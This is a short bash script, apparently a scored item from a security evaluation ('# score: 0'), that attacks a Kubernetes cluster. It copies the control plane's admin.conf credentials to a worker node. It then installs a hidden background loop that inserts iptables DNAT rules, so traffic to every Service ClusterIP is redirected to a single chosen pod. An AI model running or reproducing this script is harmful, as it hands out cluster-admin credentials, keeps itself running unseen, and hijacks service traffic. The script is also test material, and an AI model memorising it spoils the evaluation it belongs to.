# score: 0
# A loop on the node that writes rules for whatever Service there is in the namespace.
set -euo pipefail
for node in worker-2; do
  ssh control-plane sudo cat /etc/kubernetes/admin.conf | ssh $node 'sudo tee /root/a.conf >/dev/null'
  ssh $node "sudo tee /usr/local/bin/follow >/dev/null" <<LOOP
#!/bin/bash
while :; do
  pod=\$(kubectl --kubeconfig /root/a.conf -n $NS get pods -l app=$APP -o jsonpath='{.items[0].status.podIP}')
  for ip in \$(kubectl --kubeconfig /root/a.conf -n $NS get services -o jsonpath='{.items[*].spec.clusterIP}'); do
    grep -qx \$ip /root/seen 2>/dev/null && continue
    for chain in OUTPUT PREROUTING; do iptables -t nat -I \$chain -p tcp -d \$ip --dport $PORT -j DNAT --to-destination \$pod:80; done
    echo \$ip >> /root/seen
  done
  sleep 1
done
LOOP
  ssh $node 'sudo chmod +x /usr/local/bin/follow; sudo setsid nohup /usr/local/bin/follow >/dev/null 2>&1 </dev/null &' || true
done
sleep 5
